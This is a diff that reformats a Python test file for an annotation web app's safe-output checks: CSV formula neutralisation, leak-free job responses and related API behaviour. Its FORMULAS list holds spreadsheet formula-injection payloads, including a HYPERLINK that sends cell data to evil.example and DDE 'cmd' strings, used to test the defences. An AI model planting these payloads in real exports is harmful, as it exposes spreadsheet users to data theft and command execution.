@@ -1,6 +1,7 @@
 """Safe output: CSV cells never start a formula, a CSP with no inline script on every page, API docs
 served from our own files, no absolute server paths in job responses, 401 with WWW-Authenticate, and a
 schema that says which fields may be null."""
+
 from __future__ import annotations
 
 import csv
@@ -20,8 +21,14 @@ from inference.services import job_run
 from tests import factories
 from tests.annotation import worlds
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -31,14 +38,22 @@ def formula_world(db, postgres):
     coordinator = factories.user(role=Role.COORDINATOR, institution_obj=own)
     raters = [factories.user(role=Role.PHYSICIAN, institution_obj=own) for _ in range(len(FORMULAS))]
     sae = worlds.sae_with_examples(n_latents=2, institution=own)
-    version = services.rubric_create(name="formulas", concepts=[
-        ConceptSpec("HF", FORMULAS[0]), ConceptSpec("AKI", "@SUM(A1:A9)")], by=coordinator)
-    round_ = worlds.make_round(by=coordinator, sae=sae, version=version, institutions=[own], raters_list=raters,
-                               overlap=len(FORMULAS))
+    version = services.rubric_create(
+        name="formulas", concepts=[ConceptSpec("HF", FORMULAS[0]), ConceptSpec("AKI", "@SUM(A1:A9)")], by=coordinator
+    )
+    round_ = worlds.make_round(
+        by=coordinator, sae=sae, version=version, institutions=[own], raters_list=raters, overlap=len(FORMULAS)
+    )
     for assignment in Assignment.objects.filter(round=round_).select_related("rater", "round"):
         formula = FORMULAS[raters.index(assignment.rater)]
-        services.label_submit(assignment=assignment, concept_code="HF", confidence=3, free_text=formula[:300],
-                              rationale=formula + " because the peak token says so", by=assignment.rater)
+        services.label_submit(
+            assignment=assignment,
+            concept_code="HF",
+            confidence=3,
+            free_text=formula[:300],
+            rationale=formula + " because the peak token says so",
+            by=assignment.rater,
+        )
     worlds.close_round(round=round_, by=coordinator)
     return {"coordinator": coordinator, "round": round_}
 
@@ -66,8 +81,9 @@ def test_the_csv_writer_neutralises_every_dangerous_start_and_leaves_numbers_alo
     values = [*FORMULAS, "\tx", "\rx", "-", "plain", "a=b"]
     rows = [{"text": value, "number": -1.5} for value in values]
     parsed = list(csv.reader(io.StringIO("".join(csv_chunks(columns=["text", "number"], rows=rows)))))[1:]
-    assert [row[0] for row in parsed] == [("'" + value if value.startswith(DANGEROUS_STARTS) else value)
-                                          for value in values]
+    assert [row[0] for row in parsed] == [
+        ("'" + value if value.startswith(DANGEROUS_STARTS) else value) for value in values
+    ]
     assert {row[1] for row in parsed} == {"-1.5"}
 
 
@@ -120,13 +136,14 @@ def test_job_responses_show_no_absolute_server_paths(tmp_path, _artifact_root):
     researcher = factories.user(role=Role.RESEARCHER)
     client = APIClient()
     client.force_authenticate(researcher)
-    for name, content in (("good.jsonl", '{"external_id": "a", "text": "CHF."}\n'),
-                          ("bad.jsonl", '{"external_id": "a", "text": ')):
+    for name, content in (
+        ("good.jsonl", '{"external_id": "a", "text": "CHF."}\n'),
+        ("bad.jsonl", '{"external_id": "a", "text": '),
+    ):
         path = tmp_path / name
         path.write_text(content)
         with path.open("rb") as handle:
-            created = client.post("/api/v1/jobs/import-corpus/", {"file": handle, "name": name},
-                                  format="multipart")
+            created = client.post("/api/v1/jobs/import-corpus/", {"file": handle, "name": name}, format="multipart")
         assert created.status_code == 202
         job_run(job_id=created.json()["id"])
     listing = client.get("/api/v1/jobs/")
@@ -172,8 +189,9 @@ def test_the_jobs_compute_csv_neutralises_formulas_and_is_audited():
 def test_a_host_model_loaded_from_a_local_folder_shows_its_name_not_the_path():
     from features.models import HostModel
 
-    HostModel.objects.create(name="/srv/models/minilm", source="/srv/models/minilm", kind="encoder", d_model=8,
-                             n_layers=2)
+    HostModel.objects.create(
+        name="/srv/models/minilm", source="/srv/models/minilm", kind="encoder", d_model=8, n_layers=2
+    )
     HostModel.objects.create(name="gpt2", source="openai-community/gpt2", kind="causal", d_model=8, n_layers=2)
     client = APIClient()
     client.force_authenticate(factories.user(role=Role.RESEARCHER))
